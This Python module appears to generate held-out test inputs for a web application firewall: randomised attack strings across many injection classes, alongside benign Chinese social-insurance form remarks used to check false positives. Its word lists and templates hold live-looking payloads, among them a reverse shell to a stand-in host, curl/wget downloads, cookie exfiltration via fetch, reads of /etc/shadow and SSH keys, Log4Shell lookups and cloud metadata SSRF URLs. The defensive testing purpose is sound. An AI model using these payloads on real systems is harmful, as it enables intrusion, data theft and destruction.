"""Attacks and honest texts that nobody looked at while the rules were written: made from the classes' public descriptions.

Every class is a few grammars: templates whose places are filled by chance (names, numbers, operators, white space), then
changed as attackers change them (case, comments, encodings, text around it).  One seed gives the same texts each time.
What the rules miss here is not added to them: a text that has been looked at is no measure any more.

Sources: CWE-22, 77, 78, 79, 89, 90, 91, 93, 94, 502, 611, 643, 917, 918, 943, 1236, 1321; OWASP Web Security Testing
Guide 4.2, chapter 7; manuals of the databases, shells and template languages named.
"""

from __future__ import annotations

import base64
import random
import re
from collections.abc import Callable, Iterator, Mapping
from typing import Final, NamedTuple
from urllib.parse import quote

from dmz.waf.seclang.sent_request import SentRequest

_PLACE: Final = re.compile(r"‹(\w+)›")
_WORDS: Final[Mapping[str, tuple[str, ...]]] = {
    "q": ("'", '"', "')", '")', "'))"),
    "end": ("-- ", "--+", "#", "/*", " -- x", ";--"),
    "or": ("or", "OR", "||", "Or", "xor", "and"),
    "cmp": ("=", "<", ">", "<>", "!=", " like ", " between 0 and ", ">=", " regexp "),
    "ws": (" ", "\t", "\n", "/**/", "  ", "/*x*/", "\x0b"),
    "table": ("users", "insured", "information_schema.tables", "sysusers", "pg_shadow", "t_person", "all_tables"),
    "col": ("password", "user_name", "id_number", "table_name", "passwd", "usename", "version()"),
    "bank": ("sleep(‹n›)", "benchmark(‹n›000000,sha1(‹n›))", "pg_sleep(‹n›)", "(select ‹n› from pg_sleep(‹n›))"),
    "cmd": ("id", "whoami", "cat /etc/passwd", "uname -a", "ls -la /", "curl http://‹host›/x", "wget -q ‹host›/a.sh", "nc ‹host› 4444"),
    "wincmd": ("whoami", "dir c:\\", "ping -n 3 ‹host›", "type c:\\windows\\win.ini", "net user", "certutil -urlcache -f http://‹host›/a a"),
    "host": ("attacker.example", "10.0.0.7", "x.oast.example", "203.0.113.9"),
    "js": ("alert(‹n›)", "confirm`‹n›`", "prompt(document.domain)", "fetch('//‹host›/'+document.cookie)", "eval(name)", "import('//‹host›')"),
    "event": ("onerror", "onload", "onfocus", "ontoggle", "onpointerover", "onanimationend", "onbeforeinput", "onwheel", "onscrollend"),
    "tag": ("img", "svg", "details open", "video", "audio", "input autofocus", "marquee", "body", "button", "select autofocus", "x"),
    "file": ("etc/passwd", "etc/shadow", "proc/self/environ", "windows/win.ini", "boot.ini", "var/log/auth.log", "root/.ssh/id_rsa"),
    "expr": ("7*7", "config", "''.__class__.__mro__", "T(java.lang.Runtime).getRuntime()", "self.__init__.__globals__", "request.application"),
    "php": ("system('id')", "phpinfo()", "eval($_POST['x'])", "passthru('ls')", "file_get_contents('/etc/passwd')", "assert($_GET[1])"),
}  # fmt: skip
_TEMPLATES: Final[Mapping[str, tuple[str, ...]]] = {
    "sql": (
        "‹q›‹ws›‹or›‹ws›‹n›‹cmp›‹n›‹end›", "‹n›‹ws›‹or›‹ws›‹n›‹cmp›‹n›", "‹q›‹ws›union‹ws›select‹ws›‹col›,‹n›‹ws›from‹ws›‹table›‹end›",
        "-‹n›‹ws›union‹ws›all‹ws›select‹ws›null,‹col›,null‹ws›from‹ws›‹table›", "‹q›;‹ws›drop‹ws›table‹ws›‹table›‹end›",
        "‹n›;‹ws›update‹ws›‹table›‹ws›set‹ws›‹col›='‹w›'", "‹n›‹ws›and‹ws›‹bank›", "‹q›‹ws›and‹ws›‹bank›‹end›", "‹q›;waitfor‹ws›delay‹ws›'0:0:‹n›'‹end›",
        "‹n›‹ws›and‹ws›ascii(substr((select‹ws›‹col›‹ws›from‹ws›‹table›‹ws›limit‹ws›1),‹n›,1))>‹n›", "‹q›‹ws›and‹ws›extractvalue(1,concat(0x7e,(select‹ws›‹col›)))‹end›",
        "(select‹ws›‹col›‹ws›from‹ws›‹table›‹ws›where‹ws›rownum=1)", "‹q›‹ws›or‹ws›exists(select‹ws›‹n›‹ws›from‹ws›‹table›)‹end›",
        "‹n›‹ws›order‹ws›by‹ws›‹n›‹end›", "‹q›‹ws›having‹ws›‹n›=‹n›‹end›", "‹q›||(select‹ws›utl_inaddr.get_host_address('‹host›')‹ws›from‹ws›dual)||'",
        "‹n›‹ws›into‹ws›outfile‹ws›'/var/www/‹w›.php'", "‹q›‹ws›or‹ws›‹w›‹ws›in‹ws›('‹w›')‹end›", "‹n›‹ws›procedure‹ws›analyse(‹n›)",
    ),
    "xss": (
        "<‹tag› ‹event›=‹js›>", "\"><‹tag› ‹event›=‹js›>", "' ‹event›=‹js› x='", "<script>‹js›</script>", "</script><script>‹js›//", "<a href=javascript:‹js›>x</a>",
        "<svg><animate attributeName=href values=javascript:‹js› />", "<iframe srcdoc='<script>‹js›</script>'>", "<script src=//‹host›/‹w›.js></script>", "javascript:‹js›",
        "<object data=data:text/html;base64,PHNjcmlwdD4=>", "<math><a xlink:href=javascript:‹js›>x", "<form action=javascript:‹js›><button>x", "<base href=//‹host›/>",
        "<‹tag›/‹event›=‹js›//", "<style>@import'//‹host›/x.css'</style>", "<meta http-equiv=refresh content='0;url=javascript:‹js›'>", "';‹js›;//",
    ),
    "command": (
        ";‹cmd›", "| ‹cmd›", "&& ‹cmd›", "`‹cmd›`", "$(‹cmd›)", "‹w›;‹cmd›;", "\n‹cmd›\n", "|| ‹cmd› #", "& ‹wincmd› &", "| ‹wincmd›", ";cat${IFS}/etc/passwd", ";c'a't /etc/pa\"\"sswd",
        "& powershell -enc ‹b64›", "() { :;}; /bin/bash -c '‹cmd›'", ";/???/c?t /???/p??s??", "$(echo ‹b64›|base64 -d|sh)", "; bash -i >& /dev/tcp/‹host›/‹n› 0>&1", "%0a‹cmd›",
    ),
    "path": (
        "../../../../‹file›", "..\\..\\..\\‹file›", "/‹file›", "....//....//‹file›", "..%2f..%2f..%2f‹file›", "..%c0%af..%c0%af‹file›", "file:///‹file›", "php://filter/convert.base64-encode/resource=‹w›.php",
        "/var/www/../../‹file›", "c:\\‹file›", "..;/..;/‹file›", "../../‹file›%00.png", "zip://‹w›.jpg#‹w›.php", "./../../../‹file›",
    ),
    "template": (
        "{{‹expr›}}", "${‹expr›}", "<%= ‹expr› %>", "#{‹expr›}", "{%‹ws›import‹ws›os‹ws›%}{{os.popen('id').read()}}", "#set($x='')##$x.class.forName('java.lang.Runtime')",
        "<#assign x='freemarker.template.utility.Execute'?new()>${x('id')}", "{{constructor.constructor('‹js›')()}}", "*{‹expr›}", "@(‹n›*‹n›)", "{php}‹php›;{/php}",
    ),
    "jndi": ("${jndi:ldap://‹host›/‹w›}", "${${lower:j}ndi:${lower:r}mi://‹host›/a}", "${jn${::-d}i:dns://‹host›}", "${${env:X:-j}ndi:ldap://‹host›/‹w›}", "${jndi:${lower:l}${lower:d}ap://‹host›}"),
    "php": ("<?php ‹php›; ?>", "<?= ‹php› ?>", "‹php›;", "${‹php›}", "O:8:\"‹w›\":1:{s:1:\"a\";s:3:\"‹w›\";}", "data://text/plain,<?php ‹php›?>", "preg_replace('/.*/e','‹php›','')", "call_user_func('system','id')"),
    "java": (
        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=‹w›", "java.lang.Runtime.getRuntime().exec(\"id\")",
        "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}", "new java.lang.ProcessBuilder({'id'}).start()", "${pageContext.request.getSession()}", "<%@ page import=\"java.io.*\" %>",
    ),
    "script": (
        "require('child_process').exec('‹cmd›')", "process.mainModule.require('fs')", "{\"__proto__\":{\"‹w›\":‹n›}}", "constructor[prototype][‹w›]=‹n›", "__import__('os').system('‹cmd›')",
        "eval(compile('import os','','exec'))", "global.process.exit()", "_$$ND_FUNC$$_function(){return ‹n›}()", "this.constructor.constructor('return process')()",
    ),
    "xml": (
        "<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///‹file›'>]><r>&x;</r>", "<!ENTITY % d SYSTEM \"http://‹host›/e.dtd\">", "<?xml version='1.0'?><!DOCTYPE a SYSTEM 'http://‹host›'><a/>",
        "<xi:include href='file:///‹file›' parse='text'/>", "<![CDATA[<script>‹js›</script>]]>",
    ),
    "directory": ("*)(uid=*))(|(uid=*", "‹w›)(|(password=*))", "*)(objectClass=*", "admin)(!(&(1=0", "x)(&(mail=*"),
    "xpath": ("' or count(//*)>‹n› or 'a'='b", "' or '‹n›'='‹n›", "x' and name(/*[1])='‹w›' or 'a'='b", "'] | //user/* | //a['", "' or string-length(//user[1]/password)>‹n› or '1'='2"),
    "document": ("{\"$gt\":\"\"}", "{\"$ne\":null}", "{\"$where\":\"sleep(‹n›000)\"}", "'; return true; var x='", "{\"$regex\":\".*\"}", "' || this.password.match(/.*/)//"),
    "header": ("‹w›\r\nSet-Cookie: a=‹n›", "‹w›\r\n\r\n<script>‹js›</script>", "‹w›\nLocation: http://‹host›/", "‹w›%0d%0aX-Forwarded-Host:%20‹host›", "‹w›\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK"),
    "request": ("http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_INFO", "http://2130706433/", "http://[::ffff:127.0.0.1]/", "dict://localhost:11211/stat", "http://127.1/admin", "http://localhost:8080/‹w›", "http://metadata.google.internal/"),
    "formula": ("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://‹host›/?\"&A1,\"x\")", "+WEBSERVICE(\"http://‹host›\")", "=IMPORTXML(CONCAT(\"http://‹host›/?v=\",A1),\"//a\")", "-2+3+cmd|' /C calc'!D2"),
}  # fmt: skip


class HeldOut(NamedTuple):
    """One attack: its class, how it was changed, and the text."""

    kind: str
    change: str
    text: str


def _either_case(text: str, chance: random.Random) -> str:
    return "".join(chance.choice((sign.lower(), sign.upper())) for sign in text)


def _amid(text: str, chance: random.Random) -> str:
    return f"{chance.choice(('您好', '备注：', '张三', 'abc ', '2024'))}{text}{chance.choice(('', '谢谢', ' 请核对', '。'))}"


_CHANGES: Final[Mapping[str, Callable[[str, random.Random], str]]] = {
    "as it is": lambda text, _: text,
    "either case": _either_case,
    "amid text": _amid,
    "encoded once more": lambda text, _: quote(text, safe=""),
    "entities": lambda text, _: "".join(f"&#{ord(sign)};" if sign in "<>\"'():" else sign for sign in text),
    "full width": lambda text, _: "".join(chr(ord(sign) + 0xFEE0) if sign in "<>'\"()=;" else sign for sign in text),
    "base64": lambda text, _: base64.b64encode(text.encode()).decode(),
}


def held_out_attacks(count: int, seed: int) -> Iterator[HeldOut]:
    """Give so many attacks, all classes and changes in turn."""
    chance = random.Random(seed)
    kinds, changes = list(_TEMPLATES), list(_CHANGES)
    for number in range(count):
        kind = kinds[number % len(kinds)]
        change = changes[number // len(kinds) % len(changes)]
        text = _filled(chance.choice(_TEMPLATES[kind]), chance)
        yield HeldOut(kind, change, _CHANGES[change](text, chance))


def _filled(template: str, chance: random.Random) -> str:
    while _PLACE.search(template):
        template = _PLACE.sub(lambda match: _word(match[1], chance), template)
    return template


def _word(name: str, chance: random.Random) -> str:
    if name == "n":
        return str(chance.randrange(1, 99))
    if name == "w":
        return "".join(chance.choices("abcdefghijklmnopqrstuvwxyz", k=chance.randrange(3, 9)))
    if name == "b64":
        return base64.b64encode(chance.randbytes(12)).decode()
    return chance.choice(_WORDS[name])


_SUBJECT: Final = "本单位 职工张三 我母亲 财务科 经办人李娜 买买提·艾力 ABC(中国)有限公司 “鑫源”商行 A&B贸易公司 社保科 第3车间 Mr. O'Neil 退休人员王秀英".split(
    " "
)
_VERB: Final = "申请补缴 已提交 请求更正 咨询 需要打印 无法登录后 于上月停保， 转出了 对基数有异议： 漏报了 希望恢复 （重复）申报了 未收到".split(
    " "
)
_THING: Final = "2023年1-6月养老保险 医疗保险关系 工伤认定材料 《参保证明》 表格（附件1） 缴费基数3,500.00元 5%的滞纳金 身份证11010119900307651X 银行卡号6222 0212 3456 7890 生育津贴=4200元 第12条、第13条的材料 user01@example.com 的短信 100%单位部分 C类<特殊工种>名单 2024/05/01起的待遇 Excel里=SUM(A1:A9)的合计 A/B两表 3号楼#2-501的住址 编号SB-2024--001的单据 IP地址 select班次的名单 ①②两项 union工会证明 +86 138-0013-8000".split(
    " "
)
_REST: Final = "，请核对。 ；谢谢！ （急） ？ …… ，见附件 ，or电话联系 。联系人:王芳/13800138000 ，金额>3000且<5000 ，比例8%+16% ，'已盖章' ，\"原件\"在窗口 ，from北京 ，where to交? ，详见 https://hall.example/help?id=3 ，A组 & B组 ，(1)身份证;(2)户口簿 ，24小时*3天 ，C:\\文档\\表.xlsx ，不是1=1的情况 ，-- 经办 ，~左右".split(
    " "
)


def held_out_texts(count: int, seed: int) -> Iterator[str]:
    """Give so many remarks as people write them in forms of social insurance, signs and foreign words in them."""
    chance = random.Random(seed)
    for _ in range(count):
        sentences = [
            chance.choice(_SUBJECT) + chance.choice(_VERB) + chance.choice(_THING) + chance.choice(_REST)
            for _ in range(chance.randrange(1, 4))
        ]
        yield chance.choice(("", " ", "\n")).join(sentences)


def remark(text: str) -> SentRequest:
    """Give a form with a text in its remark, as a browser sends it."""
    kind = (b"Content-Type", b"application/x-www-form-urlencoded")
    agent = (b"User-Agent", b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
    headers = ((b"Host", b"hall.example"), agent, (b"Accept", b"text/html"), kind)
    return SentRequest(b"POST", b"/s/employee.add", headers=headers, body=b"note=" + quote(text, safe="").encode())
